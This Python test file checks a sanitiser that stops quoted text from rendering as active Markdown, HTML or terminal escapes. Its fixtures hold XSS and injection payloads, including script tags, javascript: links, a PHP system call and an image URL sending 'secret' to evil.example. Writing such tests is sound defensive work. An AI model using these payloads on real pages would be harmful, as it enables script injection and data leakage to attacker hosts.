"""What others have written is shown as text: nothing of it is carried out by what shows Markdown or HTML, or by a terminal."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from service.stages.plain_text import harmless

ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a handler": '<img src=x onerror="alert(1)">',
    "an image": "![chart](https://evil.example/?q=secret)",
    "a link": "[see here](https://evil.example)",
    "a link of javascript": "[see](javascript:alert(1))",
    "a link of data": "[see](data:text/html,<script>alert(1)</script>)",
    "an autolink": "<https://evil.example>",
    "an escaped bracket": "[see\\](https://evil.example) \\<script>alert(1)</script>",
    "two backslashes": "[see\\\\](https://evil.example)",
    "a reference": "[see][1]\n\n[1]: https://evil.example",
    "a short reference": "![see]\n\n[see]: https://evil.example 'title'",
    "a reference over two lines": "[see][1]\n\n[1]:\n  <https://evil.example>",
    "a reference with its title below": "[see][1]\n\n[1]: https://evil.example\n'a title'",
    "a reference in a quotation": "> [see]: https://evil.example\n\n[see]",
    "a reference over two lines of a quotation": "> ![i][x]\n>\n> [x]:\n> https://evil.example/p.png",
    "a reference over two lines of a list": "- ![i][x]\n\n  [x]:\n  https://evil.example/p.png",
    "a reference by a character reference": "![i][x]\n\n[x]: <&#104;ttps://evil.example/p.png q>",
    "a reference by escaped characters": "![i][x]\n\n[x]: <\\/\\/evil.example/a b>",
    "a reference with a space that is none": "![i][x]\n\n[x]: https://evil.example/p.png?\u00a0a",
    "a reference with a title over lines": "![i][x]\n\n[x]: https://evil.example 'two\nlines'",
    "a reference without a space": "[x]\n\n[x]:evil.example",
    "a reference to one word": "[x]\n\n[x]: word",
    "a reference to one word with a title": "[x]\n\n[x]: word 'title'",
    "a reference to one word with a title below": "[x]\n\n[x]: word \n'title'",
    "a reference by a name over two lines": "[a b]\n\n[a\nb]: https://evil.example",
    "a reference by a name with brackets": "[a\\[b\\]]\n\n[a\\[b\\]]: https://evil.example",
    "a reference by a backslash": "[a\\\\]\n\n[a\\\\]: https://evil.example",
    "a reference by a footnote": "[^x]\n\n[^x]: https://evil.example",
    "a comment": "<!-- hidden -->",
    "an instruction": "<?php system('id') ?>",
    "a declaration": "<!DOCTYPE html>",
    "character data": "<![CDATA[<b>]]>",
    "a steering character between": "[see]\u202e(https://evil.example) <\x00script>alert(1)</script>",
    "an image in a link": "[![x](https://evil.example/i.png)](https://evil.example)",
    "a closing tag": "</div></body>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'>",
}
PLAIN = [
    "Kisqali TRx rose by 0.8 (95 % CI [0.2, 1.4]); p < 0.05 & n > 30.",
    "R&D: 3 < 5, a<=b, a <- b",
    "- one\n- two\n\n**three** `four`",
    "array[0] = [1, 2]; [0.2, 0.9]: significant at 5 %",
    "[0.2, 0.9]: p < 0.05\n[Q3]: 0.8 % more, [Q4]: 1,200 units less",
    "Ärzte in Köln, 東京, 🙂",
]
MARKDOWN = MarkdownIt("commonmark", {"html": True})
MARKDOWN.validateLink = lambda _: True  # type: ignore[method-assign]  # other renderers take javascript: for a link


class _Tags(HTMLParser):
    """Collects what a browser would read as elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add(tag)

    def handle_comment(self, data: str) -> None:
        self.found.add("!--")

    def handle_decl(self, decl: str) -> None:
        self.found.add("!")

    def unknown_decl(self, data: str) -> None:
        self.found.add("![")

    def handle_pi(self, data: str) -> None:
        self.found.add("?")


def elements(html: str) -> set[str]:
    """Return the elements of a page."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.found


def carried_out(text: str) -> set[str]:
    """Return what a reader's page would carry out, whether it shows the text as Markdown or as it is."""
    tokens = [child for token in MARKDOWN.parse(text) for child in (token, *(token.children or ()))]
    active = {token.type for token in tokens} & {"link_open", "image", "html_inline", "html_block"}
    return active | elements(text)


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_of_an_attack_is_carried_out(text: str) -> None:
    """Neither as Markdown nor as HTML; before, something is."""
    assert carried_out(text.replace("\u202e", "").replace("\x00", ""))

    assert carried_out(harmless(text)) == set()


@pytest.mark.parametrize("text", PLAIN)
def test_text_without_markup_stays_as_it_is(text: str) -> None:
    """Comparisons, brackets and lists are no markup that could do harm."""
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[see](https://evil.example) <script>", "[see](https://evil.example) &lt;script&gt;"),
        ("[see]: https://evil.example", "[see]: https://evil.example"),
        ("\\[see\\](https://evil.example) \\[x\\]: y", "[see](https://evil.example) [x]: y"),
    ],
    ids=["a link", "a reference", "escaped brackets"],
)
def test_what_an_attack_says_can_still_be_read(text: str, shown: str) -> None:
    """Shown as Markdown the text is what was written."""
    assert MARKDOWN.render(harmless(text)) == f"<p>{shown}</p>\n"


@pytest.mark.parametrize("character", ["\x1b", "\x07", "\x00", "\x7f", "\x9b", "\r", "\u202e", "\u2066", "\u200f"], ids=ascii)
def test_characters_that_steer_are_left_out(character: str) -> None:
    """A terminal's escape sequences and the reversal of a line are gone; tabs and new lines stay."""
    assert harmless(f"a{character}[31m\tb\n") == "a[31m\tb\n"


MARKS = ["](", "]:", "![", "http://e", "<a", "javascript:x", "&lt;", "&#93;", "\x1b", "\u202e", "\u00a0"]
PIECES = st.sampled_from([*"[]()<>!:\\\"'`*_ \n\t#-&;/?a1", *MARKS])
PLACES = ["", "> ", "- ", "1. ", "> - ", "  "]
LED_TO = [*"[]()<>:\\\"' \n\t", "[x]:", "\n> ", "\n  ", "\n\n", "\u00a0", "\\/", "&#104;", "https://evil.example", " 'q'", " word"]


@settings(max_examples=600)
@given(st.lists(PIECES, max_size=30).map("".join))
def test_no_text_whatever_is_carried_out(text: str) -> None:
    """However markup is put together, also of what escaping leaves behind."""
    assert carried_out(harmless(text)) == set()


@settings(max_examples=600)
@given(st.sampled_from(PLACES), st.lists(st.sampled_from(LED_TO), max_size=12).map("".join))
def test_no_reference_whatever_leads_away(place: str, led_to: str) -> None:
    """However its definition is written, in quotations and lists too."""
    assert carried_out(harmless(f"{place}![i][x]\n\n{place}[x]:{led_to}\n\n![x]")) == set()


@given(st.lists(PIECES, max_size=30).map("".join))
def test_harmless_text_stays_as_it_is(text: str) -> None:
    """What was made harmless once is not changed by a second time, so an answer that quotes another reads the same."""
    once = harmless(text)

    assert harmless(once) == once
